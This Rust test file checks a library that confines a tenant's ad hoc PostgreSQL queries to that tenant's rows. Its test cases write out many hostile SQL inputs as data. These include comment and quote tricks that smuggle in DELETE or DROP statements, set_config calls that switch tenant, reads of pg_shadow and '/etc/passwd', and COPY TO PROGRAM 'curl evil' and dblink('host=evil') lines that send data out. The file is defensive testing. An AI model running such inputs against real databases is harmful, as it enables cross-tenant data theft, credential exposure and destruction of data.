//! A tenant's hostile ad hoc SQL: every input is refused, or confined so
//! that every table it reads is read through the tenant's rows only.

mod support;

use sqlparser::dialect::PostgreSqlDialect;
use sqlparser::parser::Parser;
use sqlparser::tokenizer::{Token, Tokenizer, Whitespace};
use tenancy_sql::{AllowList, Backend, Confined, Problem, QualifiedName};

const TENANT_TABLES: &[&str] = &["orders", "customers"];

fn allow() -> AllowList {
    AllowList::analytics()
        .tenant_table("orders", "tenant_id")
        .and_then(|a| a.tenant_table("customers", "tenant_id"))
        .and_then(|a| a.global_table("countries"))
        .unwrap()
}

/// What must become of an input.
enum Expect {
    Refused(Problem),
    /// Confined, reading the tenant tables this many times.
    Confined(usize),
}
use Expect::{Confined as Ok_, Refused};

/// The independent check of a confined query, on its tokens alone: every
/// tenant table slot stands in exactly
/// `( SELECT * FROM {t} AS "t" WHERE "t"."tenant_id" = $tenant )`, every
/// other slot is a global table, there is no other parameter, and the
/// rendered SQL parses as one query.
fn assert_confined(input: &str, confined: &Confined, reads: usize) {
    let sql = confined.sql();
    assert_eq!(
        support::tenant_reads(sql, |t| TENANT_TABLES.contains(&t)),
        reads,
        "{input} -> {sql}"
    );
    // Every other slot is the global table.
    assert_eq!(
        sql.matches('{').count(),
        reads + sql.matches("{countries}").count(),
        "{input} -> {sql}"
    );
    let rendered = confined
        .render(Backend::Postgres, |table| {
            QualifiedName::new("tenant_7", table)
        })
        .unwrap();
    let comments = Tokenizer::new(&PostgreSqlDialect {}, &rendered.sql)
        .tokenize()
        .unwrap()
        .into_iter()
        .filter(|t| {
            matches!(
                t,
                Token::Whitespace(
                    Whitespace::SingleLineComment { .. } | Whitespace::MultiLineComment(_)
                )
            )
        })
        .count();
    assert_eq!(comments, 0, "{}", rendered.sql);
    let statements = Parser::parse_sql(&PostgreSqlDialect {}, &rendered.sql).unwrap();
    assert_eq!(statements.len(), 1, "{}", rendered.sql);
    assert!(confined.analysis().is_read_only());
}

fn run(cases: &[(&str, Expect)]) {
    let allow = allow();
    for (input, expect) in cases {
        match (tenancy_sql::confine(input, &allow), expect) {
            (Ok(confined), Ok_(reads)) => assert_confined(input, &confined, *reads),
            (Err(errors), Refused(problem)) => {
                assert!(
                    errors.has(*problem),
                    "{input}: expected {problem:?}, got\n{errors}"
                );
                assert!(!errors.has(Problem::Internal), "{input}:\n{errors}");
                // Every refusal says what is wrong, at a place in the input.
                for error in &errors {
                    assert!(!error.message().is_empty());
                    assert!(error.span().end <= input.len(), "{input}: {error:?}");
                }
            }
            (Ok(confined), Refused(problem)) => {
                panic!(
                    "{input}: expected {problem:?}, confined as\n{}",
                    confined.sql()
                )
            }
            (Err(errors), Ok_(_)) => panic!("{input}: refused\n{errors}"),
        }
    }
}

#[test]
fn comment_tricks() {
    run(&[
        ("SELECT * FROM orders -- ; DELETE FROM orders", Ok_(1)),
        ("SELECT * FROM orders /* ; DELETE FROM orders */", Ok_(1)),
        (
            "SELECT * FROM orders /* */ ; DELETE FROM orders",
            Refused(Problem::StatementCount),
        ),
        (
            "SELECT 1 --\n; DROP TABLE orders",
            Refused(Problem::StatementCount),
        ),
        (
            "SELECT /* /* nested */ still a comment; DELETE FROM orders */ * FROM orders",
            Ok_(1),
        ),
        (
            "SELECT * FROM orders /* never closed",
            Refused(Problem::Syntax),
        ),
        (
            "SELECT * FROM customers c WHERE c.name = 'x' -- ' OR true",
            Ok_(1),
        ),
        (
            "SELECT * FROM orders o WHERE true /* AND o.tenant_id = 1 */ OR o.tenant_id = 2",
            Ok_(1),
        ),
        ("/*! DELETE FROM orders */ SELECT 1", Ok_(0)),
        ("SELECT * FROM orders; -- trailing", Ok_(1)),
    ]);
}

#[test]
fn string_and_dollar_quote_tricks() {
    run(&[
        ("SELECT 'a'';DELETE FROM orders;--' FROM orders", Ok_(1)),
        ("SELECT 'x\\' FROM orders", Ok_(1)),
        ("SELECT E'\\'' , * FROM orders", Ok_(1)),
        (
            "SELECT E'\\\\' ; DELETE FROM orders; --'",
            Refused(Problem::StatementCount),
        ),
        ("SELECT $$ ' $$, * FROM orders", Ok_(1)),
        ("SELECT $x$ $$ ; DELETE FROM orders $$ $x$", Ok_(0)),
        ("SELECT $1$ FROM orders $1$", Refused(Problem::Lexical)),
        ("SELECT $tenant", Refused(Problem::Parameter)),
        (
            "SELECT * FROM orders o WHERE o.id = $1",
            Refused(Problem::Parameter),
        ),
        ("SELECT 'x' FROM orders o WHERE E'\\'' = ''''", Ok_(1)),
        (
            "SELECT 1 AS \"a\"\"b\" FROM orders",
            Refused(Problem::Lexical),
        ),
    ]);
}

#[test]
fn settings_and_session() {
    run(&[
        (
            "SELECT set_config('app.tenant_id', '2', true)",
            Refused(Problem::Function),
        ),
        (
            "SELECT * FROM orders WHERE set_config('app.tenant_id', '2', true) IS NOT NULL",
            Refused(Problem::Function),
        ),
        (
            "SELECT pg_catalog.set_config('app.tenant_id', '2', false)",
            Refused(Problem::Function),
        ),
        (
            "SELECT current_setting('app.tenant_id')",
            Refused(Problem::Function),
        ),
        ("SET app.tenant_id = '2'", Refused(Problem::Statement)),
        ("RESET ALL", Refused(Problem::Statement)),
        ("SELECT pg_sleep(100)", Refused(Problem::Function)),
        (
            "SELECT * FROM orders WHERE pg_sleep(1) IS NULL",
            Refused(Problem::Function),
        ),
        ("BEGIN", Refused(Problem::Statement)),
        ("COMMIT", Refused(Problem::Statement)),
        ("PREPARE p AS SELECT 1", Refused(Problem::Statement)),
        ("DO $$ BEGIN PERFORM 1; END $$", Refused(Problem::Statement)),
    ]);
}

#[test]
fn system_catalogs() {
    run(&[
        ("SELECT * FROM pg_class", Refused(Problem::SystemCatalog)),
        (
            "SELECT * FROM pg_catalog.pg_authid",
            Refused(Problem::SystemCatalog),
        ),
        (
            "SELECT * FROM information_schema.tables",
            Refused(Problem::SystemCatalog),
        ),
        (
            "SELECT * FROM pg_stat_activity",
            Refused(Problem::SystemCatalog),
        ),
        ("SELECT * FROM PG_USER", Refused(Problem::SystemCatalog)),
        (
            "SELECT * FROM \"pg_shadow\"",
            Refused(Problem::SystemCatalog),
        ),
        (
            "SELECT * FROM pg_temp.orders",
            Refused(Problem::SystemCatalog),
        ),
        (
            "SELECT relname FROM orders, pg_class",
            Refused(Problem::SystemCatalog),
        ),
        (
            "SELECT 1 UNION SELECT relname FROM pg_class",
            Refused(Problem::SystemCatalog),
        ),
        ("SELECT 'pg_authid'::regclass", Refused(Problem::Type)),
        ("SELECT CAST('orders' AS regclass)", Refused(Problem::Type)),
        ("SELECT 'x'::regnamespace[]", Refused(Problem::Type)),
    ]);
}

#[test]
fn copy_and_several_statements() {
    run(&[
        ("COPY orders TO STDOUT", Refused(Problem::Statement)),
        (
            "COPY (SELECT * FROM orders) TO PROGRAM 'curl evil'",
            Refused(Problem::Statement),
        ),
        ("SELECT 1; SELECT 2", Refused(Problem::StatementCount)),
        (
            "SELECT * FROM orders; SET app.tenant_id = '2'",
            Refused(Problem::StatementCount),
        ),
        ("SELECT 1 END; DELETE FROM orders", Refused(Problem::Syntax)),
        (
            "EXPLAIN ANALYZE DELETE FROM orders",
            Refused(Problem::Statement),
        ),
        ("", Refused(Problem::StatementCount)),
    ]);
}

#[test]
fn dblink_and_functions_with_side_effects() {
    run(&[
        (
            "SELECT * FROM dblink('host=evil', 'SELECT * FROM orders') AS t(id int)",
            Refused(Problem::Function),
        ),
        (
            "SELECT dblink_exec('DELETE FROM orders')",
            Refused(Problem::Function),
        ),
        (
            "SELECT nextval('orders_id_seq')",
            Refused(Problem::Function),
        ),
        (
            "SELECT lo_import('/etc/passwd')",
            Refused(Problem::Function),
        ),
        (
            "SELECT pg_read_file('/etc/passwd')",
            Refused(Problem::Function),
        ),
        (
            "SELECT pg_terminate_backend(pg_backend_pid())",
            Refused(Problem::Function),
        ),
        (
            "SELECT query_to_xml('SELECT * FROM orders', true, true, '')",
            Refused(Problem::Function),
        ),
        ("SELECT pg_advisory_lock(1)", Refused(Problem::Function)),
        ("SELECT pg_notify('x', 'y')", Refused(Problem::Function)),
        ("SELECT txid_current()", Refused(Problem::Function)),
        ("SELECT public.lower('x')", Refused(Problem::Function)),
    ]);
}

#[test]
fn unicode_escapes_and_case_tricks() {
    run(&[
        ("SELECT * FROM U&\"orders\"", Refused(Problem::Lexical)),
        (
            "SELECT * FROM U&\"\\0070g_class\"",
            Refused(Problem::Lexical),
        ),
        ("SELECT U&'\\0041' FROM orders", Ok_(1)),
        (
            "SELECT * FROM \"Orders\"",
            Refused(Problem::TableNotAllowed),
        ),
        ("SELECT * FROM ORDERS", Ok_(1)),
        ("SELECT * FROM \"orders\"", Ok_(1)),
        ("SELECT * FROM OrDeRs o WHERE O.TENANT_ID = 2", Ok_(1)),
    ]);
}

#[test]
fn other_tables_and_schemas() {
    run(&[
        (
            "SELECT id FROM orders UNION SELECT id FROM invoices",
            Refused(Problem::TableNotAllowed),
        ),
        (
            "SELECT id FROM orders UNION ALL SELECT id FROM customers",
            Ok_(2),
        ),
        (
            "SELECT * FROM orders UNION SELECT * FROM other.orders",
            Refused(Problem::TableNotAllowed),
        ),
        (
            "SELECT * FROM public.orders",
            Refused(Problem::TableNotAllowed),
        ),
        (
            "SELECT * FROM \"public\".\"orders\"",
            Refused(Problem::TableNotAllowed),
        ),
        (
            "SELECT * FROM db.public.orders",
            Refused(Problem::TableNotAllowed),
        ),
        ("SELECT * FROM {orders}", Refused(Problem::Slot)),
        (
            "SELECT \"__tenancy_slot_0\".* FROM orders",
            Refused(Problem::ReservedName),
        ),
        (
            "SELECT * FROM orders o, orders o",
            Refused(Problem::DuplicateName),
        ),
        ("SELECT * FROM countries", Ok_(0)),
        (
            "SELECT (SELECT count(*) FROM orders) FROM countries",
            Ok_(1),
        ),
    ]);
}

#[test]
fn joins_lateral_and_subqueries() {
    run(&[
        (
            "SELECT * FROM customers c, LATERAL (SELECT * FROM orders o WHERE o.customer_id = c.id) x",
            Ok_(2),
        ),
        (
            "SELECT * FROM customers c LEFT JOIN LATERAL (SELECT * FROM orders o WHERE o.tenant_id <> 0) x ON true",
            Ok_(2),
        ),
        (
            "SELECT * FROM orders o RIGHT JOIN customers c ON false",
            Ok_(2),
        ),
        (
            "SELECT * FROM orders o FULL JOIN customers c ON true",
            Ok_(2),
        ),
        ("SELECT * FROM orders NATURAL JOIN customers", Ok_(2)),
        (
            "SELECT * FROM orders o JOIN (SELECT * FROM customers) c ON true",
            Ok_(2),
        ),
        (
            "SELECT * FROM orders WHERE id IN (SELECT id FROM orders WHERE tenant_id = 2)",
            Ok_(2),
        ),
        (
            "SELECT * FROM orders o WHERE EXISTS (SELECT 1 FROM customers c WHERE c.tenant_id <> o.tenant_id)",
            Ok_(2),
        ),
        (
            "SELECT * FROM orders o WHERE o.tenant_id = 2 OR true",
            Ok_(1),
        ),
        ("SELECT o FROM orders o", Ok_(1)),
        ("SELECT * FROM orders AS o(tenant_id, id)", Ok_(1)),
        ("SELECT * FROM orders ONLY", Ok_(1)),
        ("SELECT * FROM ONLY orders", Refused(Problem::Unsupported)),
        (
            "SELECT * FROM orders TABLESAMPLE BERNOULLI (50)",
            Refused(Problem::Unsupported),
        ),
    ]);
}

#[test]
fn with_queries_that_shadow_tables() {
    run(&[
        (
            "WITH orders AS (SELECT * FROM orders) SELECT * FROM orders",
            Ok_(1),
        ),
        (
            "WITH customers AS (SELECT 1 AS id) SELECT * FROM customers",
            Ok_(0),
        ),
        (
            "WITH x AS (SELECT * FROM orders), orders AS (SELECT * FROM pg_class) SELECT * FROM x",
            Refused(Problem::SystemCatalog),
        ),
        (
            "WITH x AS (SELECT * FROM orders), orders AS (SELECT 1) SELECT * FROM x, orders",
            Ok_(1),
        ),
        (
            "WITH x AS (SELECT * FROM later), later AS (SELECT 1) SELECT * FROM x",
            Refused(Problem::TableNotAllowed),
        ),
        (
            "WITH RECURSIVE orders AS (SELECT * FROM orders) SELECT * FROM orders",
            Ok_(0),
        ),
        ("WITH \"Orders\" AS (SELECT 1) SELECT * FROM orders", Ok_(1)),
        (
            "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d",
            Refused(Problem::Statement),
        ),
        (
            "WITH u AS (UPDATE orders SET tenant_id = 2 RETURNING *) SELECT 1",
            Refused(Problem::Statement),
        ),
        (
            "WITH i AS (INSERT INTO orders (tenant_id) VALUES (2) RETURNING *) SELECT * FROM i",
            Refused(Problem::Statement),
        ),
    ]);
}

#[test]
fn table_values_windows_and_set_returning_functions() {
    run(&[
        ("TABLE orders", Refused(Problem::Statement)),
        (
            "SELECT * FROM (TABLE orders) t",
            Refused(Problem::TableNotAllowed),
        ),
        ("VALUES (1), (2)", Ok_(0)),
        ("SELECT * FROM (VALUES (1)) v(x)", Ok_(0)),
        ("VALUES ((SELECT count(*) FROM orders))", Ok_(1)),
        (
            "SELECT o.id, row_number() OVER (PARTITION BY o.customer_id ORDER BY o.total DESC) FROM orders o",
            Ok_(1),
        ),
        (
            "SELECT sum(total) OVER w FROM orders WINDOW w AS (ORDER BY id)",
            Ok_(1),
        ),
        (
            "SELECT generate_series(1, 1000000000)",
            Refused(Problem::Function),
        ),
        (
            "SELECT * FROM generate_series(1, 3) g",
            Refused(Problem::Function),
        ),
        (
            "SELECT * FROM unnest(ARRAY[1, 2])",
            Refused(Problem::Function),
        ),
        (
            "SELECT jsonb_each(data) FROM orders",
            Refused(Problem::Function),
        ),
    ]);
}

#[test]
fn writes_and_locks() {
    run(&[
        (
            "SELECT * FROM orders FOR UPDATE",
            Refused(Problem::Statement),
        ),
        (
            "SELECT * FROM orders FOR SHARE SKIP LOCKED",
            Refused(Problem::Statement),
        ),
        (
            "SELECT * INTO stolen FROM orders",
            Refused(Problem::Statement),
        ),
        (
            "INSERT INTO orders (tenant_id) VALUES (2)",
            Refused(Problem::Statement),
        ),
        ("DELETE FROM orders", Refused(Problem::Statement)),
        (
            "UPDATE orders SET tenant_id = 2",
            Refused(Problem::Statement),
        ),
        ("TRUNCATE orders", Refused(Problem::Statement)),
        (
            "CREATE TABLE stolen AS SELECT * FROM orders",
            Refused(Problem::Statement),
        ),
    ]);
}

#[test]
fn size_limits() {
    let deep = format!("SELECT {}1{}", "(".repeat(80), ")".repeat(80));
    let long = format!("SELECT 1 {}", " ".repeat(300 * 1024));
    run(&[
        (deep.as_str(), Refused(Problem::TooLarge)),
        (long.as_str(), Refused(Problem::TooLarge)),
    ]);
}
